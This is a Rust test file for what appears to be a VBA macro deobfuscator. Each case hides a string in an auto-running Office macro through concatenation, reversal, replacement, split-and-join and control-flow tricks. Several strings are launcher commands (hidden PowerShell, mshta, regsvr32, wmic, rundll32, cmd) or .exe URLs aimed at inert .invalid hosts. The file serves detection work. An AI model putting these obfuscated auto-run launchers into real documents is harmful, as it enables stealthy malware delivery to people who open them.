//! Texts cut into pieces, turned round, and filled with what is not part of them.

use super::{Case, case};

pub(super) const CASES: &[Case] = &[
    case(
        "two operators",
        "WScript.Shell",
        r#"
Sub AutoOpen()
    Set o = CreateObject("WSc" & "rip" + "t.Sh" & "ell")
End Sub
"#,
    ),
    case(
        "cut between words",
        "https://example.invalid/between/words.exe",
        r#"
Sub AutoOpen()
    Dim host As String
    host = "example.invalid"
    MsgBox "https" & "://" & host & "/" & "between" & "/words.exe"
End Sub
"#,
    ),
    case(
        "a command cut between words",
        "powershell -nop -c inert-between.invalid",
        r#"
Sub AutoOpen()
    Const P = "powershell"
    Shell P & " -nop" & " -c " & "inert-between.invalid"
End Sub
"#,
    ),
    case(
        "step by step",
        "powershell -nop -w hidden inert-test.invalid",
        r#"
Sub AutoOpen()
    Dim p As String
    p = "pow"
    p = p + "ersh"
    p = p & "ell -n"
    p = p & "op -w h" & "idden "
    p = p & "ine" & "rt-te" & "st.inv"
    p = p & "alid"
    Shell p, 0
End Sub
"#,
    ),
    case(
        "many variables in another order",
        "https://example.invalid/order.exe",
        r#"
Sub AutoOpen()
    d = "alid/ord"
    a = "htt"
    e = "er.ex"
    c = "ple.inv"
    b = "ps://exam"
    f = "e"
    Navigate a & b & c & d & e & f
End Sub
"#,
    ),
    case(
        "thirty statements",
        "cmd.exe /c start inert-thirty.invalid",
        r#"
Sub AutoOpen()
    Dim s As String, waste As Long
    s = s & "cm"
    waste = waste + 0
    s = s & "d."
    waste = waste + 1
    s = s & "ex"
    waste = waste + 2
    s = s & "e "
    waste = waste + 3
    s = s & "/c"
    waste = waste + 4
    s = s & " s"
    waste = waste + 5
    s = s & "ta"
    waste = waste + 6
    s = s & "rt"
    waste = waste + 7
    s = s & " i"
    waste = waste + 8
    s = s & "ne"
    waste = waste + 9
    s = s & "rt"
    waste = waste + 10
    s = s & "-t"
    waste = waste + 11
    s = s & "hi"
    waste = waste + 12
    s = s & "rt"
    waste = waste + 13
    s = s & "y."
    waste = waste + 14
    s = s & "in"
    waste = waste + 15
    s = s & "va"
    waste = waste + 16
    s = s & "li"
    waste = waste + 17
    s = s & "d"
    waste = waste + 18
    CreateObject("WScript.Shell").Exec s
End Sub
"#,
    ),
    case(
        "continued lines",
        "https://example.invalid/continued.exe",
        r#"
Sub AutoOpen()
    u = "ht" & _
        "tps:" _
        & "//example" & _
        ".inva" & _
        "lid/conti" _
        & "nued.exe"
    MsgBox u
End Sub
"#,
    ),
    case(
        "turned round",
        "regsvr32 /s /u inert-test.invalid",
        r#"
Sub AutoOpen()
    Shell StrReverse("dilavni.tset-treni u/ s/ 23rvsger")
End Sub
"#,
    ),
    case(
        "turned round in a loop",
        "https://example.invalid/round.exe",
        r#"
Function Turn(t)
    Dim i
    For i = Len(t) To 1 Step -1
        Turn = Turn & Mid(t, i, 1)
    Next
End Function

Sub AutoOpen()
    Navigate Turn("exe.dnuor/dilavni.elpmaxe//:sptth")
End Sub
"#,
    ),
    case(
        "filled with a letter",
        "powershell inert-filled.invalid",
        r#"
Sub AutoOpen()
    Shell Replace("pZoZwZeZrZsZhZeZlZlZ ZiZnZeZrZtZ-ZfZiZlZlZeZdZ.ZiZnZvZaZlZiZd", "Z", "")
End Sub
"#,
    ),
    case(
        "filled with words, by a function with a constant",
        "ADODB.Stream",
        r#"
Private Const FILL As String = "%~"

Function Clean(text As String) As String
    Clean = Replace(text, FILL, Empty)
End Function

Sub AutoOpen()
    Set s = CreateObject(Clean("A%~DO%~DB%~.S%~tr%~eam"))
End Sub
"#,
    ),
    case(
        "replaced twice and turned round",
        "wmic process call create inert-test.invalid",
        r#"
Sub AutoOpen()
    w = StrReverse(Replace(Replace("dilavni.ts!?t-tr!?ni !?ta!?r@@ lla@@ ss!?@@orp @@imw", "@@", "c"), "!?", "e"))
    Shell w
End Sub
"#,
    ),
    case(
        "pieces by Mid, Left and Right",
        "inert.exe",
        r#"
Sub AutoOpen()
    Dim k As String
    k = "exe of an inert.letter"
    MsgBox Mid(k, 11, 5) & Mid(k, 16, 1) & Left(k, 3)
    MsgBox Right("my https://example.invalid", 23)
End Sub
"#,
    ),
    case(
        "split and joined",
        "https://example.invalid/joined",
        r#"
Sub AutoOpen()
    MsgBox Join(Split("hx]b2[stx]b2[stx]b2[spx]b2[ssx]b2[s:x]b2[s/x]b2[s/x]b2[sex]b2[sxx]b2[sax]b2[smx]b2[spx]b2[slx]b2[sex]b2[s.x]b2[six]b2[snx]b2[svx]b2[sax]b2[slx]b2[six]b2[sdx]b2[s/x]b2[sjx]b2[sox]b2[six]b2[snx]b2[sex]b2[sd", "x]b2[s"), "")
End Sub
"#,
    ),
    case(
        "split, joined by a function, the separator in a variable",
        "winmgmts:win32_process",
        r#"
Function Uncut(text)
    sep = "]a" + "nw["
    cut = Split(text, sep)
    Uncut = Join(cut, "")
End Function

Sub AutoOpen()
    Set p = GetObject(Uncut("w]anw[i]anw[n]anw[m]anw[g]anw[m]anw[t]anw[s]anw[:]anw[w]anw[i]anw[n]anw[3]anw[2]anw[_]anw[p]anw[r]anw[o]anw[c]anw[e]anw[s]anw[s"))
End Sub
"#,
    ),
    case(
        "an array joined",
        "mshta https://example.invalid/array.hta",
        r#"
Sub AutoOpen()
    Shell Join(Array("msh", "ta ", "https://", "example", ".invalid", "/array.hta"), vbNullString)
End Sub
"#,
    ),
    case(
        "an array joined in the order of another",
        "inert in another order",
        r#"
Sub AutoOpen()
    Dim w, o, i, s
    w = Array("ano", " in", "ine", "the", "rt", " order", "r", " ")
    o = Array(2, 4, 1, 7, 0, 3, 6, 5)
    For i = 0 To 7
        s = s & w(o(i))
    Next i
    MsgBox s
End Sub
"#,
    ),
    case(
        "every piece of a list",
        "cscript inert-list.invalid",
        r#"
Sub AutoOpen()
    Dim piece As Variant, whole As String
    For Each piece In Split("cs cri pt| ine rt- list .inv alid", " ")
        whole = whole & piece
    Next piece
    Shell Replace(whole, "|", " ")
End Sub
"#,
    ),
    case(
        "pieces cut out while there are any",
        "rundll32 inert.dll,Start",
        r#"
Sub AutoOpen()
    Dim t As String, at As Long
    t = "run<b>dll<b>32 in<b>ert.dll,<b>Start"
    at = InStr(t, "<b>")
    Do While at > 0
        t = Left(t, at - 1) & Mid(t, at + 3)
        at = InStr(t, "<b>")
    Loop
    Shell t
End Sub
"#,
    ),
    case(
        "written into a text",
        "inert-written",
        r#"
Sub AutoOpen()
    Dim s As String
    s = String(13, "?")
    Mid(s, 6) = "-written"
    Mid$(s, 1, 5) = "inert"
    MsgBox s
End Sub
"#,
    ),
    case(
        "constants of a module",
        "https://example.invalid/constants.exe",
        r#"
Const A = "https"
Const B = A & "://example"
Public Const C As String = ".inv" & "alid/", D = "constants" & ".exe"

Sub AutoOpen()
    Navigate B & C & D
End Sub
"#,
    ),
    case(
        "constants of two modules",
        "cmd /c inert-modules.invalid",
        r#"
'# document ThisDocument
Private Sub Document_Open()
    Shell Texts.Program & " " & Texts.Flag & Target(3)
End Sub
'# standard Texts
Public Const Program = "cm" & "d"
Public Const Flag = "/" & "c"
'# standard Targets
Public Function Target(ByVal n As Integer) As String
    If n = 3 Then Target = " iner" & "t-modules.invalid" Else Target = "nothing"
End Function
"#,
    ),
    case(
        "variables of a module",
        "https://example.invalid/variables",
        r#"
Dim first As String
Private second As String

Sub Fill()
    first = "https://exam"
    second = "ple.invalid/" & "variables"
End Sub

Sub AutoOpen()
    Fill
    MsgBox first & second
End Sub
"#,
    ),
    case(
        "names of the environment",
        "\\inert-environment.exe",
        r#"
Sub AutoOpen()
    Dim f As String
    f = Environ("TE" & "MP") & "\inert-" & "environ" & "ment.e" & "xe"
    Shell f
End Sub
"#,
    ),
    case(
        "letters made small and large",
        "wscript.shell",
        r#"
Sub AutoOpen()
    Set o = CreateObject(LCase("WSCR" & UCase("ipt.")) & LCase$("ShElL"))
End Sub
"#,
    ),
    case(
        "blanks and repeats",
        "cmd /c inert  xxx.invalid",
        r#"
Sub AutoOpen()
    Shell Trim("   cmd ") & Space(1) & LTrim("   /c") & RTrim(" inert    ") & Space(2) & String(3, "x") & Trim$(" .invalid ")
End Sub
"#,
    ),
    case(
        "fields of a type",
        "https://example.invalid/fields",
        r#"
Private Type Place
    Scheme As String
    Host As String
    Path(1) As String
End Type

Sub AutoOpen()
    Dim p As Place
    p.Scheme = "htt" & "ps"
    With p
        .Host = "exam" & "ple.invalid"
        .Path(0) = "fie"
        .Path(1) = "lds"
    End With
    MsgBox p.Scheme & "://" & p.Host & "/" & p.Path(0) & p.Path(1)
End Sub
"#,
    ),
    case(
        "arrays of arrays",
        "inert-of-arrays",
        r#"
Sub AutoOpen()
    Dim a
    a = Array(Array("in", "ert"), Array("-of", Array("-arr", "ays")))
    MsgBox a(0)(0) & a(0)(1) & a(1)(0) & a(1)(1)(0) & a(1)(1)(1)
End Sub
"#,
    ),
    case(
        "items of a dictionary",
        "https://example.invalid/dictionary",
        r#"
Sub AutoOpen()
    Dim d As Object
    Set d = CreateObject("Scripting.Dictionary")
    d.Add "a", "https://exa"
    d("b") = "mple.invalid/"
    d.Add "c", "dictionary"
    MsgBox d("a") & d.Item("b") & d("c")
End Sub
"#,
    ),
    case(
        "items of a collection",
        "https://example.invalid/collection",
        r#"
Sub AutoOpen()
    Dim c As New Collection, s
    c.Add "https://exa"
    c.Add "mple.invalid/"
    c.Add "collection", "last"
    s = c(1) & c.Item(2) & c("last")
    MsgBox s
End Sub
"#,
    ),
    case(
        "chosen values",
        "inert-chosen-value",
        r#"
Sub AutoOpen()
    MsgBox Choose(2, "no", "ine", "never") & IIf(1 < 2, "rt-", "no") & Switch(False, "x", True, "chosen") & IIf("a" = "b", "!", "-value")
End Sub
"#,
    ),
    case(
        "a property of a class",
        "https://example.invalid/class",
        r#"
'# document ThisDocument
Private Sub Document_Open()
    Dim k As New Keeper
    k.Text = "mple.invalid/"
    MsgBox k.Text & "class"
End Sub
'# class Keeper
Private kept As String

Public Property Let Text(ByVal value As String)
    kept = "https://exa" & value
End Property

Public Property Get Text() As String
    Text = kept
End Property
"#,
    ),
    case(
        "functions in functions",
        "powershell inert-nested.invalid",
        r#"
Function F1(a): F1 = a & F2("er"): End Function
Function F2(b): F2 = b & F3("sh", "ell"): End Function
Function F3(c, Optional d = "no", Optional e = " inert-nes"): F3 = c & d & e: End Function

Sub AutoOpen()
    Shell F1("pow") & "ted.inva" & "lid"
End Sub
"#,
    ),
    case(
        "results by reference",
        "https://example.invalid/reference",
        r#"
Sub Give(ByRef out As String, ByVal part As String)
    out = out & part
End Sub

Sub AutoOpen()
    Dim s As String
    Give s, "https://exa"
    Call Give(s, "mple")
    Give out:=s, part:=".invalid/reference"
    MsgBox s
End Sub
"#,
    ),
    case(
        "cases",
        "inert by case",
        r#"
Function Letter(n As Integer) As String
    Select Case n
        Case 1, 3: Letter = "in"
        Case 4 To 6: Letter = "ert"
        Case Is > 90: Letter = " by"
        Case Else: Letter = " case"
    End Select
End Function

Sub AutoOpen()
    MsgBox Letter(1) & Letter(5) & Letter(91) & Letter(20)
End Sub
"#,
    ),
    case(
        "conditions that always hold",
        "https://example.invalid/always",
        r#"
Sub AutoOpen()
    Dim a As Integer, u As String
    a = 7
    If a * 3 > 20 And Not a = 8 Then
        u = "https://exa"
    Else
        u = "nothing"
    End If
    If False Then u = "no" Else u = u & "mple.inv"
    If Len(u) = 19 Then u = u & "alid/always"
    MsgBox u
End Sub
"#,
    ),
    case(
        "jumps",
        "inert after all jumps",
        r#"
Sub AutoOpen()
    Dim s As String
    GoTo first
third:
    s = s & "l jumps"
    GoTo last
first:
    s = "ine"
    GoTo second
10  s = "nothing"
second:
    s = s & "rt after al"
    If Len(s) = 14 Then GoTo third
    GoTo 10
last:
    MsgBox s
End Sub
"#,
    ),
];
